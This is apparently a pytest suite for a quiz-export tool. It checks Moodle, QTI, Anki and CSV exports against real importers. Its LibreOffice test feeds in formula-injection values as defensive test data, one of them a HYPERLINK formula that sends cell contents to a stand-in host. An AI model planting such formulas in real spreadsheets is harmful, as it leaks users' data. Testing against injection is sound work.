"""Exports fed to the real importers: Moodle's GIFT and XML code (php-cli), Anki, xmllint with the QTI schemas."""

from __future__ import annotations

import dataclasses

import html
import shutil
import zipfile
from pathlib import Path

import pytest

from quizforge.export import ExportContext, get
from quizforge.export.run import ExportRequest, export
from quizforge.pipeline import BuildRequest, make_paper

from .clients import moodle_import, needs_moodle, needs_soffice, soffice_cells
from .conftest import FIXTURES, PURGES
from .export_samples import nasty_paper

SPECIALS = FIXTURES / "specials.yaml"
# Two papers between them ask every kind of question (on one paper, later strategies run short of points).
STRATEGIES = {"a": ("fill-blank", "match", "key-terms", "sequence", "explain"),
              "b": ("true-false", "multiple-choice")}
ARROW_ANSWER = "£300 -> £450"  # GIFT has no escape for '->'; the quality gates never blank one, but a plugin might


def with_arrow_answer(paper):
    """The paper with its first fill-in-the-blank answer replaced by one holding '->'."""
    sections = []
    done = False
    for section in paper.sections:
        questions = []
        for q in section.questions:
            if not done and q.strategy == "fill-blank" and q.answer != "C++":
                q = dataclasses.replace(q, body=dataclasses.replace(q.body, answer=ARROW_ANSWER), answer=ARROW_ANSWER)
                done = True
            questions.append(q)
        sections.append(dataclasses.replace(section, questions=tuple(questions)))
    assert done
    return dataclasses.replace(paper, sections=tuple(sections))


def specials_paper(seed: int = 1, kinds: str = "a"):
    return make_paper(BuildRequest(source=SPECIALS, seed=seed, strategies=STRATEGIES[kinds]))[0]


def papers():
    return [("nasty", nasty_paper()), ("specials-a", specials_paper(1, "a")), ("specials-b", specials_paper(2, "b")),
            ("purges", make_paper(BuildRequest(source=PURGES))[0])]


def shown(stored: str) -> str:
    """What Moodle shows for a name or menu entry: tags stripped, entities decoded."""
    return html.unescape(stored)


@pytest.mark.slow
@needs_moodle
@pytest.mark.parametrize("name,paper", papers(), ids=[n for n, _ in papers()])
def test_moodle_imports_every_gift_and_xml_export_without_error(name, paper, tmp_path):
    for kind, fmt in (("gift", "gift"), ("xml", "moodle")):
        context = ExportContext()
        result = moodle_import(kind, get(fmt).export(paper, context), tmp_path)
        assert result["importerrors"] == 0, (kind, result["errors"])
        questions = [q for q in result["questions"] if q["qtype"] != "category"]
        assert len(questions) + len(context.skipped) == len(paper.questions), kind
        categories = {tuple(shown(n) for n in q["category_names"]) for q in result["questions"] if q["qtype"] == "category"}
        titles = {paper.topic.title} | {c.title for c in paper.topic.causes}
        assert all(set(c[1:]) <= titles for c in categories), f"category names as typed: {categories}"


def _typed_answers(questions) -> set[str]:
    return {a for q in questions if q["qtype"] == "shortanswer" for a in q["answer"]}


@pytest.mark.slow
@needs_moodle
def test_moodle_keeps_answers_and_titles_exactly(tmp_path):
    paper = with_arrow_answer(specials_paper())
    gaps = [q for q in paper.questions if q.strategy == "fill-blank"]
    expected = {q.body.answer.replace("*", "\\*") for q in gaps}
    assert "£300 -> £450" in expected and "C++" in expected
    xml = moodle_import("xml", get("moodle").export(paper, ExportContext()), tmp_path)
    assert expected <= _typed_answers(xml["questions"]), "typed answers survive Moodle's XML reader byte for byte"
    menus = {shown(a) for q in xml["questions"] if q["qtype"] == "match" for a in q["subanswers"]}
    causes = {c.title for c in paper.topic.causes}
    assert menus & causes and all("<b>" in m for m in menus if m.startswith("Money")), menus

    context = ExportContext()
    gift = moodle_import("gift", get("gift").export(paper, context), tmp_path)
    assert (expected - {"£300 -> £450"}) <= _typed_answers(gift["questions"])
    assert "£300 -> £450" not in _typed_answers(gift["questions"])
    assert len(context.skipped) == 1 and "'£300 -> £450' contains '->'" in context.skipped[0]
    assert "--to moodle" in context.skipped[0]


def test_gift_arrow_warning_names_the_question():
    context = ExportContext()
    gift = get("gift").export(with_arrow_answer(specials_paper()), context).decode("utf-8")
    assert ARROW_ANSWER not in gift and "C++" in gift
    assert len(context.skipped) == 1 and "--to moodle" in context.skipped[0]


# --- identifiers that survive ---------------------------------------------------------


def _qti_idents(data: bytes) -> set[str]:
    import io
    import re
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    return set(re.findall(r'(?:ident|identifier)="((?:q|item)[0-9a-f]{16})"', text))


@pytest.mark.parametrize("fmt", ["qti12", "qti21"])
def test_qti_item_ids_are_unique_to_the_notes_and_stable(fmt, tmp_path):
    other = tmp_path / "other.yaml"
    other.write_text(PURGES.read_text(encoding="utf-8").replace("Reasons behind the Purges", "Another topic"),
                     encoding="utf-8")
    ours = _qti_idents(get(fmt).export(make_paper(BuildRequest(source=PURGES))[0], ExportContext()))
    theirs = _qti_idents(get(fmt).export(make_paper(BuildRequest(source=other))[0], ExportContext()))
    assert ours and not ours & theirs, "two notes files never share an item identifier"
    renamed = tmp_path / "renamed.yaml"
    shutil.copy(PURGES, renamed)
    assert _qti_idents(get(fmt).export(make_paper(BuildRequest(source=renamed))[0], ExportContext())) == ours


# --- Anki: rename and insertion -----------------------------------------------------


def _cloze_notes(col) -> dict[str, tuple[str, list[int]]]:
    import re
    out = {}
    for nid in col.find_notes(""):
        note = col.get_note(nid)
        if note.note_type()["type"] == 1:
            sentence = re.sub(r"\{\{c1::(.*?)\}\}", r"\1", html.unescape(note["Text"]))
            out[note.guid] = (sentence, sorted(c.id for c in note.cards()))
    return out


def _export_anki(source: Path, out: Path, mtime: int) -> bytes:
    import os
    os.environ["SOURCE_DATE_EPOCH"] = str(mtime)
    try:
        export(ExportRequest(source=source, to="anki", out=out, strategies=("fill-blank",), count=50))
    finally:
        del os.environ["SOURCE_DATE_EPOCH"]
    return out.read_bytes()


@pytest.mark.slow
def test_anki_cards_survive_a_rename_and_an_inserted_point(tmp_path):
    anki_collection = pytest.importorskip("anki.collection", reason="the 'anki' package checks .apkg files")
    from .test_export_tools import import_apkg

    col = anki_collection.Collection(str(tmp_path / "collection.anki2"))
    try:
        notes = tmp_path / "purges.yaml"
        shutil.copy(PURGES, notes)
        import_apkg(col, _export_anki(notes, tmp_path / "a.apkg", 1_700_000_000), tmp_path)
        first = _cloze_notes(col)
        assert len(first) >= 5

        renamed = tmp_path / "Purges revision (copy).yaml"
        notes.rename(renamed)
        import_apkg(col, _export_anki(renamed, tmp_path / "b.apkg", 1_700_000_100), tmp_path)
        assert _cloze_notes(col) == first, "a renamed file updates the same cards"

        text = renamed.read_text(encoding="utf-8")
        marker = "    points:\n      - There were accidents"
        assert marker in text
        renamed.write_text(text.replace(marker, "    points:\n      - text: Stalin opened the new"
                                                " Moscow Metro in 1935.\n        blank: Moscow Metro\n"
                                                "      - There were accidents", 1), encoding="utf-8")
        import_apkg(col, _export_anki(renamed, tmp_path / "c.apkg", 1_700_000_200), tmp_path)
        after = _cloze_notes(col)
        sentences = [sentence for sentence, _ in after.values()]
        assert len(set(sentences)) == len(sentences), "no sentence has two cards"
        # The fill-blank strategy draws only its best few blanks, so the new point may not make a card;
        # what must hold is that no existing card moved onto another sentence.
        for guid, (sentence, cards) in first.items():
            assert after[guid] == (sentence, cards), "each card (and its review history) stays on its own sentence"
    finally:
        col.close()


# --- QTI 2.1 scoring ------------------------------------------------------------------

Q2 = "{http://www.imsglobal.org/xsd/imsqti_v2p1}"


def _score_of_correct_response(item) -> float | None:
    """A small QTI 2.1 scorer: the SCORE a candidate gets for the declared correct response (None: marked by hand)."""
    declaration = item.find(f"{Q2}responseDeclaration")
    correct = [v.text for v in declaration.iterfind(f"{Q2}correctResponse/{Q2}value")]
    processing = item.find(f"{Q2}responseProcessing")
    if processing is None:
        return None
    template = processing.get("template", "").rsplit("/", 1)[-1]
    if template == "match_correct":
        return 1.0
    if template == "map_response":
        entries = {e.get("mapKey"): float(e.get("mappedValue")) for e in declaration.iterfind(f"{Q2}mapping/{Q2}mapEntry")}
        values = correct[:1] if declaration.get("cardinality") == "single" else correct
        return sum(entries.get(v, 0.0) for v in values)
    right = processing.find(f"{Q2}responseCondition/{Q2}responseIf")
    assert right.find(f"{Q2}match/{Q2}correct") is not None
    return float(right.find(f"{Q2}setOutcomeValue/{Q2}baseValue").text)


def test_qti21_items_score_their_marks():
    import io
    import xml.etree.ElementTree as ET
    paper = make_paper(BuildRequest(source=SPECIALS, seed=2, strategies=("odd-one-out",)))[0]
    assert any(q.marks == 2 and q.strategy == "odd-one-out" for q in paper.questions)
    sequence = specials_paper(1, "a")
    papers_ = (paper, sequence)
    for p in papers_:
        data = get("qti21").export(p, ExportContext())
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            items = [ET.fromstring(archive.read(n)) for n in sorted(archive.namelist()) if n.startswith("items/")]
        by_title = {i.get("title"): i for i in items}
        for q in p.questions:
            score = _score_of_correct_response(by_title[f"Q{q.number} {q.strategy}"])
            assert score is None or score == q.marks, (q.strategy, score, q.marks)
    assert any(q.strategy == "sequence" and q.marks == 2 for q in sequence.questions)


# --- LibreOffice on every CSV the tool writes ---------------------------------------------


def _our_cells(path: Path) -> list[list[str]]:
    import csv
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.slow
@needs_soffice
def test_libreoffice_shows_every_csv_cell_as_text(tmp_path):
    from quizforge.batch.manifest import COLUMNS, write_manifest

    export_csv = tmp_path / "questions.csv"
    export_csv.write_bytes(get("csv").export(nasty_paper(), ExportContext()))
    manifest = tmp_path / "manifest.csv"
    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+44 7700 900123", "-1", "@SUM(A1:A2)",
               "\ufeffZoë\r Brown"]
    write_manifest(manifest, [{c: (name if c == "name" else "=1+1" if c == "class" else i) for c in COLUMNS}
                              for i, name in enumerate(hostile, 1)])
    for path in (export_csv, manifest):
        shown = soffice_cells(path, tmp_path)
        # Calc reads True/False as its booleans and shows them as TRUE/FALSE; every other cell is as written
        ours = [[c.upper() if c in ("True", "False") else c for c in row] for row in _our_cells(path)]
        assert shown == ours, "no cell was evaluated as a formula: Calc shows exactly the text written"
        cells = [c for row in shown for c in row]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
        assert not any("\ufeff" in c or "\r" in c for c in cells)
    names = [row[2] for row in _our_cells(manifest)[1:]]
    assert names[0] == "'" + hostile[0] and names[4] == "Zoë Brown"
